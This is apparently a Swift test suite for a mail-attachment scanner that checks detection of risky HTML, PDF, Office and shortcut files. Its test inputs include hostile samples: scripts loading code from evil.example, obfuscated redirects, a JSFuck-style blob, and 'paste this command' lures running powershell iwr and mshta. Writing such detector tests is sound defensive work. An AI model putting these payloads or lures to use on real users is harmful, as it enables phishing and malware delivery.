import Mail
import Testing

@testable import Inspection

/// Files that are little but a way to somewhere else, and their neighbours that people send.
@Suite struct LeadingPageTests {
  private func report(_ text: String, _ name: String) -> InspectionReport {
    MessageInspectorTests.report(Array(text.utf8), .file(name: name))
  }

  private func rules(_ text: String, _ name: String = "a.html") -> Set<String> {
    Set(report(text, name).findings.map(\.rule))
  }

  @Test(arguments: [
    "<iframe src='https://evil.example/#a@b.example' style='width:100%'></iframe>",
    "<object data='//evil.example/' type=text/html></object>",
    "<frameset rows='100%'><frame src='https://evil.example/'></frameset>",
    "<title>Voice</title><embed src=' https://evil.example/'>",
  ])
  func `a page that only shows another is told`(page: String) {
    #expect(rules("<html>\(page)</html>") == ["html.remote-frame"])
    #expect(report("<html>\(page)</html>", "a.html").verdict != .clean)
    let minutes = String(repeating: "What was said at the meeting. ", count: 10)
    #expect(rules("<html><p>\(minutes)</p>\(page)</html>") == [])
  }

  @Test func `a script that imports another is told`() {
    #expect(
      rules("<html><script type=module>import( \"https://evil.example/x.js\")</script>")
        == ["html.remote-script"])
    #expect(rules("<html><script>// see import notes\nvar a = 1</script>") == ["html.script"])
  }

  @Test func `a frame over all else hides the text that stands below it`() {
    let text = String(repeating: "What was said at the meeting. ", count: 10)
    func page(_ style: String) -> String {
      "<html><iframe src='https://evil.example/' style='\(style)'></iframe><p>\(text)</html>"
    }
    #expect(rules(page("position: fixed; inset: 0; width: 100%")) == ["html.remote-frame"])
    #expect(rules(page("position:absolute;height:100vh")) == ["html.remote-frame"])
    #expect(rules(page("width: 100%; height: 400px")) == [])
  }

  @Test(arguments: [
    "fetch('https://evil.example/x').then(r => r.text()).then(t => document.write(t))",
    "x.open('GET', 'https://evil.example/x'); x.onload = () => { b.innerHTML = x.responseText }",
    "new WebSocket('wss://evil.example').onmessage = e => { document.body.innerHTML = e.data }",
    "var s = document.createElement('script'); s.src = '//evil.example/x.js'",
    "var s = document.createElement('script'); s.setAttribute('src', a)",
    "import x from 'https://evil.example/a.js'; x()",
  ])
  func `a script that puts in what it fetches is told`(script: String) {
    #expect(rules("<html><script>\(script)</script></html>").contains("html.remote-script"))
  }

  @Test(arguments: [
    "// taken from https://code.example/a\nvar a = 1", "fetch('data.json').then(draw)",
    "document.createElement('script').text = 'a'", "form.onsubmit = check",
    "document.getElementById('tab').click()",
  ])
  func `a script that stays at home is not`(script: String) {
    let links = "<a href='https://a.example'>a</a><a href='https://b.example'>b</a>"
    #expect(rules("<html>\(links)<script>\(script)</script></html>") == ["html.script"])
  }

  @Test(arguments: [
    "<form id=f action='https://evil.example'></form><script>f.submit()</script>",
    "<body onload='document.forms[0].submit()'><form action='//evil.example'></form>",
    "<a id=a href='https://evil.example'></a><script>a.click()</script>",
    "<script>m.httpEquiv = 'refresh'; m.content = '0;url=https://evil.example'</script>",
    "<script>window['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e'] = u</script>",
    "<script>open(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'), '_self')</script>",
  ])
  func `a page that leaves for another by itself is told`(page: String) {
    #expect(rules("<html>\(page)</html>").contains("html.script-redirect"))
  }

  @Test func `a script of brackets and signs alone hides what it does`() {
    let code = String(repeating: "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", count: 20)
    #expect(rules("<html><script>\(code)</script></html>") == ["html.hidden-code"])
    let table = String(repeating: "t[0][1] = [[a, b], [c, d]];", count: 20)
    #expect(rules("<html><script>\(table)</script></html>") == ["html.script"])
  }

  @Test(arguments: [
    "<p>Copy this line into the address bar of File Explorer:</p><code>powershell iwr https://x",
    "<p><b>Windows</b> + <b>R</b> を押し、貼り付けてください。</p>mshta https://x.example/a",
  ])
  func `a page that tells to paste a command is told`(page: String) {
    #expect(rules("<html>\(page)</html>").contains("html.tells-command"))
  }

  @Test func `help for one's own computer is not`() {
    let help = "<p>Press Win + R, type cmd and paste the output of ipconfig. https://help.example"
    #expect(rules("<html>\(help)</html>") == [])
  }

  @Test(arguments: ["a.mht", "a.MHTML"])
  func `a saved page that is attached as a message is opened as a page`(name: String) {
    func mail(_ name: String) -> String {
      [
        "From: a@b.example", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=x", "",
        "--x", "Content-Type: text/plain", "", "Hello", "--x",
        "Content-Type: message/rfc822; name=\"\(name)\"", "", "MIME-Version: 1.0",
        "Content-Type: multipart/related; boundary=y", "", "--y", "Content-Type: text/html", "",
        "<html><script>location.href='https://evil.example'</script></html>", "--y--", "", "--x--",
        "",
      ].joined(separator: "\r\n")
    }
    #expect(rules(mail(name), "a.eml").contains("html.script-redirect"))
    #expect(!rules(mail("a.eml"), "a.eml").contains("html.script-redirect"))
  }

  @Test func `an AMP page beside the text is text`() {
    let mail = [
      "From: a@b.example", "MIME-Version: 1.0", "Content-Type: multipart/alternative; boundary=x",
      "", "--x", "Content-Type: text/plain", "", "Hello", "--x", "Content-Type: text/x-amp-html",
      "", "<html amp4email><script async src='https://cdn.ampproject.org/v0.js'></script>",
      "--x--", "",
    ].joined(separator: "\r\n")
    #expect(!rules(mail, "a.eml").contains("html.remote-script"))
    #expect(report(mail, "a.eml").verdict == .clean)
  }

  // MARK: Documents

  private func pdf(_ catalog: String) -> Set<String> {
    let objects = "1 0 obj\n<</Type/Catalog\(catalog)/URI<</Base(https://a.example)>>>>\nendobj\n"
    let action = "15 0 obj\n<</S/GoTo>>\nendobj\n5 0 obj\n<</S/URI/URI(https://x)>>\nendobj\n"
    return rules("%PDF-1.5\n\(objects)\(action)", "a.pdf")
  }

  @Test(arguments: [
    "/OpenAction<</Type/Action/S/URI/URI(https://x.example/)>>", "/OpenAction 5 0 R",
    "/OpenAction\(String(repeating: " ", count: 99))5\n0  R",
    "/OpenAction <</S/GoTo/Next<</S/Submit#46orm/F<</FS/URL>>>>>>",
  ])
  func `a PDF that opens an address by itself is told`(catalog: String) {
    #expect(pdf(catalog).contains("pdf.opens-address"))
  }

  @Test(arguments: [
    "/OpenAction[3 0 R/Fit]", "/OpenAction 15 0 R", "/OpenAction<</S/GoTo/D[0/Fit]>>",
    "/OpenAction 99 0 R", "/OpenAction 5 1 R", "/OpenAction", "",
  ])
  func `a PDF that opens at a page is not`(catalog: String) {
    #expect(!pdf(catalog).contains("pdf.opens-address"))
  }

  private func link(of document: String, _ target: String) -> InspectionReport {
    if document == "rtf" {
      return report("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"\(target)\"}}}", "a.rtf")
    }
    let isCell = document == "cell"
    let relation =
      "<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" "
      + "Target=\"\(target)\" TargetMode=\"External\"/></Relationships>"
    let sheet = "<c><f>HYPERLINK(\"\(target)\",\"Open\")</f></c>"
    let octets = StoredZip.octets([
      ("[Content_Types].xml", Array("<Types/>".utf8)),
      isCell
        ? ("xl/worksheets/sheet1.xml", Array(sheet.utf8))
        : ("word/_rels/document.xml.rels", Array(relation.utf8)),
    ])
    return MessageInspectorTests.report(octets, .file(name: isCell ? "a.xlsx" : "a.docx"))
  }

  @Test(arguments: ["word", "cell", "rtf"])
  func `a document's link to what runs is told, one to a page is not`(document: String) {
    func weight(_ target: String) -> Double? {
      link(of: document, target).findings.first { $0.rule == "office.program-link" }?.weight
    }
    #expect(weight("https://x.example/setup.exe") == 6)
    for harmless in ["https://www.example.com/", "https://a.example/manual.pdf", "mailto:a@b.exe"] {
      #expect(weight(harmless) == nil)
    }
    // A script may be shown as text where it is.
    #expect(weight("https://code.example/blob/main/index.js") == 3)
  }

  // MARK: Kinds

  @Test(arguments: [
    ("a.udl", "[oledb]\r\nProvider=SQLOLEDB.1;Data Source=203.0.113.5\r\n", "file.shortcut"),
    ("a.mobileconfig", "<?xml version=\"1.0\"?><plist><dict/></plist>", "file.profile"),
    ("a.inf", "[version]\nSignature=$chicago$\n[DefaultInstall]\n", "file.shortcut"),
    ("a.xml", "<Project><UsingTask TaskFactory=\"CodeTaskFactory\"/></Project>", "file.script"),
    ("a.dat", "DAA\0\0\0\0\0\0\0\0\0\0\0\0\0L\0\0\0", "file.damaged"),
    ("a.uif", "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}", "file.damaged"),
  ])
  func `a file that acts by what it is called or holds is told`(
    name: String, text: String, rule: String
  ) {
    #expect(rules(text, name).contains(rule), "\(rules(text, name))")
  }

  @Test func `a project without code of its own is a text`() {
    let project = "<Project><UsingTask TaskName=\"a\" AssemblyFile=\"a.dll\"/></Project>"
    #expect(rules(project, "a.xml") == [])
  }
}
